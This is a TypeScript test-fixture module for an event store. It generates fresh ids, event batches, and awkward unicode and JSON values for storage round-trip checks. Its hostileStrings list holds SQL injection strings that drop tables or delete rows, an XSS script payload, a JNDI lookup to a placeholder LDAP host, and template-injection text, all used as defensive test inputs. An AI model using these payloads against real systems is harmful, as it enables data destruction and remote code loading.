/**
 * The data the checks write: fresh ids (so a check never sees another
 * check's data, even in a shared database that outlives the run), event
 * batches with every envelope field filled, and the hostile, unicode and
 * large values that storage code most often mangles.
 *
 * @module
 */
import type { AppendRequest, EventToAppend, OutboxMessageToWrite, StoredEvent } from "@community-policing/core"
import { DateTime, Effect, type Schema } from "effect"

/** A random id with a readable prefix, unique across runs. */
export const freshId = (prefix: string): Effect.Effect<string> =>
  Effect.sync(() => `${prefix}-${globalThis.crypto.randomUUID()}`)

/** A tenant id no check has used before; each check works in its own tenants. */
export const freshTenant: Effect.Effect<string> = freshId("testkit-tenant")

const hex64 = () => (globalThis.crypto.randomUUID() + globalThis.crypto.randomUUID()).replaceAll("-", "").slice(0, 64)

/** What to build a batch of events from. */
export interface EventSpec {
  readonly tenantId: string
  readonly streamId: string
  /** The stream's version before the batch (default 0). */
  readonly expectedVersion?: number | undefined
  /** How many events (default 1). */
  readonly count?: number | undefined
  /** The data of the event at `index` in the batch (default: a small object naming it). */
  readonly data?: ((index: number) => Schema.Json) | undefined
  /** Other envelope fields to set on the event at `index`. */
  readonly fields?:
    | ((index: number) => Partial<Omit<EventToAppend, "tenantId" | "streamId" | "streamVersion">>)
    | undefined
}

/**
 * A well-formed batch: versions follow `expectedVersion`, every envelope
 * field is set and they vary (a null and a non-null causation id, two schema
 * versions, millisecond timestamps), event ids are fresh.
 */
export const makeEvents = (spec: EventSpec): Effect.Effect<Array<EventToAppend>> =>
  Effect.sync(() => {
    const expectedVersion = spec.expectedVersion ?? 0
    const commandId = `cmd-${globalThis.crypto.randomUUID()}`
    return Array.from({ length: spec.count ?? 1 }, (_, index): EventToAppend => {
      const streamVersion = expectedVersion + index + 1
      return {
        tenantId: spec.tenantId,
        streamId: spec.streamId,
        streamVersion,
        eventId: `evt-${globalThis.crypto.randomUUID()}`,
        eventType: index % 2 === 0 ? "NoticeOfViolationServed" : "ReinspectionScheduled",
        schemaVersion: 1 + (index % 2),
        data: spec.data === undefined ? { index, streamVersion, note: "mattresses dumped in the alley" } : spec.data(index),
        recordedAt: DateTime.makeUnsafe(Date.UTC(2026, 2, 2, 9, 30, 0, 123) + streamVersion),
        actor: "Staff:ceo-3",
        commandId,
        correlationId: `req-${commandId}`,
        causationId: index === 0 ? null : commandId,
        previousHash: streamVersion === 1 ? "0".repeat(64) : hex64(),
        hash: hex64(),
        ...spec.fields?.(index)
      }
    })
  })

/** An append request for a fresh batch built from `spec`. */
export const makeAppend = (
  spec: EventSpec & {
    readonly idempotencyKey?: string | undefined
    readonly outbox?: ReadonlyArray<OutboxMessageToWrite> | undefined
  }
): Effect.Effect<AppendRequest> =>
  Effect.map(makeEvents(spec), (events) => ({
    tenantId: spec.tenantId,
    streamId: spec.streamId,
    expectedVersion: spec.expectedVersion ?? 0,
    idempotencyKey: spec.idempotencyKey,
    events,
    outbox: spec.outbox
  }))

/**
 * An event as plain data for comparison, without its global position:
 * exactly the envelope's fields (anything extra an adapter adds is ignored),
 * `recordedAt` as its ISO string.
 */
export const appendedView = (event: StoredEvent | EventToAppend) => ({
  tenantId: event.tenantId,
  streamId: event.streamId,
  streamVersion: event.streamVersion,
  eventId: event.eventId,
  eventType: event.eventType,
  schemaVersion: event.schemaVersion,
  data: event.data,
  recordedAt: dateView(event.recordedAt),
  actor: event.actor,
  commandId: event.commandId,
  correlationId: event.correlationId,
  causationId: event.causationId,
  previousHash: event.previousHash,
  hash: event.hash
})

/** A stored event as plain data for comparison; see {@link appendedView}. */
export const eventView = (event: StoredEvent) => ({ ...appendedView(event), globalPosition: event.globalPosition })

/** A DateTime as its ISO string; anything else unchanged, so a wrong type shows in a diff. */
export const dateView = (value: unknown): unknown =>
  DateTime.isDateTime(value) ? DateTime.formatIso(value) : value

/**
 * Strings that break naive storage code: SQL and LIKE metacharacters,
 * quoting and escaping, text that looks like JSON, numbers or markup,
 * control characters short of NUL, property names of `Object.prototype`.
 * NUL is left out: PostgreSQL cannot store it in text or jsonb, so the
 * contract cannot promise it.
 */
export const hostileStrings: ReadonlyArray<string> = [
  "'",
  "\"",
  "\\",
  "\\'",
  "''",
  "'; DROP TABLE events; --",
  "\" OR \"1\"=\"1",
  "1; DELETE FROM outbox",
  "%",
  "_",
  "%_%",
  "a%",
  "a_",
  "\\%",
  "[a-z]*",
  ".*",
  "{\"a\":1}",
  "[1,2,3]",
  "null",
  "true",
  "0",
  "-1",
  "1e309",
  "NaN",
  "undefined",
  "</script><script>alert(1)</script>",
  "${jndi:ldap://example.invalid/x}",
  "{{7*7}}",
  "$1",
  "?",
  ":name",
  "@p0",
  "`backtick`",
  "/* comment */",
  "-- comment",
  "a->>'b'",
  "$.a[0]",
  "\u0001\u0002\u0003\u001f\u007f",
  "\t\n\r\f\b\v",
  "\u00ff\u00fe\u0080\u0081 binary-looking",
  "\ufffd\ufffe\uffff",
  "   ",
  " padded ",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty"
]

/**
 * Text in many scripts and forms, all of which must come back code unit for
 * code unit: no normalisation (composed and decomposed `é` stay distinct), no
 * loss of characters outside the Basic Multilingual Plane (the MySQL utf8mb3
 * trap), no trimming of invisible characters.
 */
export const unicodeStrings: ReadonlyArray<string> = [
  "👩🏽‍⚖️ officer",
  "🇺🇸🏳️‍🌈🏴‍☠️",
  "שלום עולם",
  "مرحبا بالعالم",
  "\u200fRTL mark\u200e then LTR",
  "caf\u00e9",
  "cafe\u0301",
  "\u00c5 \u0041\u030a \u212b",
  "Z\u0351\u0362\u0338a\u0361\u0325l\u0336g\u0334o",
  "𝕳𝖊𝖑𝖑𝖔",
  "𠜎𠜱𠝹𠱓",
  "🀄 🂡 𓀀",
  "\u200b\u200c\u200d\ufeff",
  "\u2028\u2029",
  "नमस्ते",
  "สวัสดี",
  "警察と地域",
  "경찰",
  "Ελληνικά",
  "ß ẞ ǅ ﬁ"
]

/** A JSON value exercising every JSON shape and awkward numbers that round-trip through any JSON column. */
export const jsonShapes: ReadonlyArray<Schema.Json> = [
  null,
  true,
  false,
  0,
  1,
  -1,
  0.1,
  1e-7,
  123456789.125,
  Number.MAX_SAFE_INTEGER,
  Number.MIN_SAFE_INTEGER,
  1.7976931348623157e308,
  5e-324,
  "",
  "plain",
  [],
  {},
  [[], [[]], {}, [{}]],
  { "": "empty key", " ": "space key", "nested": { "deeper": { "deepest": [1, "two", null, false] } } },
  { "b": 1, "a": 2, "c": { "z": [], "y": {} } },
  [1, "1", true, "true", null, "null", 0, "0", "", []]
]

const loneSurrogate = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g

const portableString = (text: string): string => text.replace(loneSurrogate, "\ufffd").replaceAll("\u0000", "\u2400")

/**
 * A generated JSON value made storable everywhere: lone surrogates (not
 * Unicode, so not encodable in UTF-8) become U+FFFD, NUL becomes U+2400, and
 * `-0` becomes `0` (JSON text has no negative zero that survives every parser).
 */
export const portableJson = (value: Schema.Json): Schema.Json => {
  if (typeof value === "string") return portableString(value)
  if (typeof value === "number") return Object.is(value, -0) ? 0 : value
  if (value === null || typeof value === "boolean") return value
  if (isJsonArray(value)) return value.map(portableJson)
  return Object.fromEntries(Object.entries(value).map(([key, item]) => [portableString(key), portableJson(item)]))
}

const isJsonArray = (value: Schema.JsonArray | Schema.JsonObject): value is Schema.JsonArray => Array.isArray(value)
